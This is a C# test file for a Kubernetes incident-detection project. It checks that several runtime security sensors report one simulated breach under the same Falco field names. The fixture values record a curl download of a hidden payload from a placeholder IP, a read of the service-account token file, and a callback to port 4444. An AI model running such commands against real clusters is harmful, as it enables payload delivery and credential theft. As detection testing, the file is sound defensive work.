using System.Text.Json;
using IncidentMesh.Contracts.Signals;
using IncidentMesh.Testing;

namespace IncidentMesh.Sensors.Tests;

/// <summary>One breach, told by each sensor: the same fields under the same names.</summary>
public sealed class FieldMappingTests
{
    private const string Token = "/var/run/secrets/kubernetes.io/serviceaccount/token";

    [Theory]
    [InlineData("tetragon", 1, "proc.name", "curl")]
    [InlineData("tetragon", 1, "proc.cmdline", "curl -so /tmp/.k http://198.51.100.23/k")]
    [InlineData("tetragon", 1, "proc.pname", "sh")]
    [InlineData("tetragon", 1, "proc.aname[2]", "node")]
    [InlineData("tetragon", 1, "evt.type", "execve")]
    [InlineData("tetragon", 4, "fd.name", Token)]
    [InlineData("tetragon", 5, "fd.name", "10.42.3.17:51022->198.51.100.23:4444")]
    [InlineData("tetragon", 5, "fd.l4proto", "tcp")]
    [InlineData("tracee", 1, "proc.cmdline", "curl -so /tmp/.k http://198.51.100.23/k")]
    [InlineData("tracee", 1, "proc.exepath", "/usr/bin/curl")]
    [InlineData("tracee", 3, "fd.name", Token)]
    [InlineData("tracee", 5, "fd.sport", "4444")]
    [InlineData("kubearmor", 1, "proc.cmdline", "/usr/bin/curl -so /tmp/.k http://198.51.100.23/k")]
    [InlineData("kubearmor", 1, "evt.type", "execve")]
    [InlineData("kubearmor", 2, "fd.name", "/run/secrets/kubernetes.io/serviceaccount/token")]
    [InlineData("kubearmor", 3, "fd.sip", "198.51.100.23")]
    [InlineData("inspektor-gadget", 1, "proc.cmdline", "/usr/bin/curl -so /tmp/.k http://198.51.100.23/k")]
    [InlineData("inspektor-gadget", 1, "user.name", "www-data")]
    [InlineData("inspektor-gadget", 3, "fd.name", Token)]
    [InlineData("inspektor-gadget", 5, "fd.name", "10.42.3.17:51022->198.51.100.23:4444")]
    [InlineData("hubble", 2, "fd.sip", "198.51.100.23")]
    [InlineData("hubble", 0, "fd.sip.name", "drop.example")]
    [InlineData("kubescape", 0, "proc.cmdline", "curl -so /tmp/.k http://198.51.100.23/k")]
    [InlineData("kubescape", 1, "proc.exepath", "/tmp/.k")]
    [InlineData("kubescape", 2, "proc.pname", "sh")]
    [InlineData("neuvector", 0, "proc.exepath", "/tmp/.k")]
    [InlineData("neuvector", 2, "fd.sport", "4444")]
    [InlineData("stackrox", 0, "proc.cmdline", "curl -so /tmp/.k http://198.51.100.23/k")]
    [InlineData("stackrox", 0, "proc.aname[2]", "node")]
    [InlineData("native", 1, "fd.sport", "4444")]
    public void A_field_has_Falcos_name(string sensor, int index, string field, string value) =>
        Assert.Equal(value, Read(sensor)[index].Facts.GetValueOrDefault(field));

    [Theory]
    [InlineData("tetragon", 1, "exec|/usr/bin/curl")]
    [InlineData("tracee", 1, "exec|/usr/bin/curl")]
    [InlineData("kubearmor", 1, "exec|/usr/bin/curl")]
    [InlineData("inspektor-gadget", 1, "exec|/usr/bin/curl")]
    [InlineData("tetragon", 5, "connect|198.51.100.23:4444/tcp")]
    [InlineData("inspektor-gadget", 5, "connect|198.51.100.23:4444/tcp")]
    [InlineData("hubble", 2, "connect|198.51.100.23:4444/tcp")]
    public void What_the_replica_did_is_the_same_feature(string sensor, int index, string activity) =>
        Assert.Equal(activity, Read(sensor)[index].Activity);

    [Theory]
    [InlineData("falco", "listen|4445/tcp", "listen|4445/tcp", "accept|10.42.5.0/24->4445/tcp")]
    [InlineData("tetragon", "listen|4445/tcp", "accept|10.42.5.0/24->4445/tcp", "dns|drop.example")]
    [InlineData("tracee", "listen|4445", "accept|10.42.5.0/24", "dns|drop.example")]
    [InlineData("inspektor-gadget", "listen|4445/tcp", "accept|10.42.5.0/24->4445/tcp", "dns|drop.example")]
    [InlineData("hubble", "accept|shop/front->8080/tcp", "accept|world->8080/tcp", "dns|drop.example", "connect|shop/front:9090/tcp")]
    [InlineData("kubearmor", "listen|4445", "accept|10.42.5.0/24->4445/tcp")]
    public void What_a_replica_listens_on_who_calls_it_and_what_it_looks_up_are_features(string sensor, params string[] expected) =>
        Assert.Equal(expected, Read(sensor, "network").Select(static signal => signal.Activity));

    [Theory]
    [InlineData("listen", "0.0.0.0", "45123", "", "listen|ephemeral/tcp")]
    [InlineData("listen", "0.0.0.0", "0", "", "rule|r")]
    [InlineData("accept", "10.0.0.1", "8080", "2001:db8:1:2:3::4", "accept|2001:db8:1:2::/64->8080/tcp")]
    [InlineData("accept4", "10.0.0.1", "8080", "::ffff:10.1.2.3", "accept|10.1.2.0/24->8080/tcp")]
    [InlineData("accept", "10.0.0.1", "8080", "127.0.0.1", "accept|localhost->8080/tcp")]
    [InlineData("accept", "10.0.0.1", "8080", "", "rule|r")]
    [InlineData("dns", "10.0.0.10", "53", "", "dns|*.shop.pod.cluster.local")]
    public void What_is_chance_is_left_out_of_a_servers_features(string type, string own, string port, string client, string expected)
    {
        var json = JsonSerializer.SerializeToUtf8Bytes(new
        {
            schema = "incidentmesh/v1",
            rule = "r",
            fields = new Dictionary<string, string>
            {
                ["evt.type"] = type,
                ["fd.sip"] = own,
                ["fd.sport"] = port,
                ["fd.cip"] = client,
                ["fd.l4proto"] = "tcp",
                ["fd.sip.name"] = "10-42-3-17.Shop.pod.cluster.local.",
            },
        });
        Assert.Equal(expected, ConformanceCases.Read("native", json).Activity);
    }

    [Theory]
    [InlineData("tetragon", 5, Severity.High)]
    [InlineData("tetragon", 1, Severity.Unknown)]
    [InlineData("tracee", 4, Severity.High)]
    [InlineData("kubearmor", 0, Severity.Medium)]
    [InlineData("kubearmor", 2, Severity.Critical)]
    [InlineData("kubearmor", 3, Severity.Unknown)]
    [InlineData("kubescape", 1, Severity.High)]
    [InlineData("neuvector", 1, Severity.Critical)]
    [InlineData("stackrox", 1, Severity.High)]
    [InlineData("native", 1, Severity.High)]
    public void The_sensors_own_judgement_is_kept(string sensor, int index, Severity severity) =>
        Assert.Equal(severity, Read(sensor)[index].Severity);

    [Theory]
    [InlineData("tetragon", 6, 7)]
    [InlineData("tracee", 6)]
    [InlineData("kubearmor", 4)]
    [InlineData("hubble", 3)]
    [InlineData("kubescape", 3)]
    [InlineData("native", 2)]
    public void What_a_sensor_lost_or_held_back_is_its_health_and_nothing_else_is(string sensor, params int[] expected)
    {
        var health = Read(sensor).Index().Where(one => one.Item.Kind == SignalKind.SensorHealth).ToList();

        Assert.Equal(expected, health.Select(one => one.Index));
        Assert.All(health, one => Assert.Equal((Severity.Medium, null), (one.Item.Severity, one.Item.Activity)));
    }

    [Theory]
    [InlineData("tetragon")]
    [InlineData("tracee")]
    [InlineData("kubearmor")]
    [InlineData("inspektor-gadget")]
    [InlineData("hubble")]
    [InlineData("kubescape")]
    [InlineData("native")]
    public void Every_event_of_the_breach_names_its_pod(string sensor) =>
        Assert.All(
            Read(sensor).Where(signal => signal.Kind == SignalKind.Event),
            signal => Assert.Equal(("shop", "web-7c9d8b6f54-x2lqp"), (signal.Origin.Namespace, signal.Origin.Pod)));

    private static List<Signal> Read(string sensor, string sample = "web-shop")
    {
        var body = SampleFiles.Read($"{sensor}/{sample}.ndjson");
        return [.. EventSplitter.Split(body, SplitLimits.Default).Events.Select(range => ConformanceCases.Read(sensor, body.AsSpan()[range]))];
    }
}
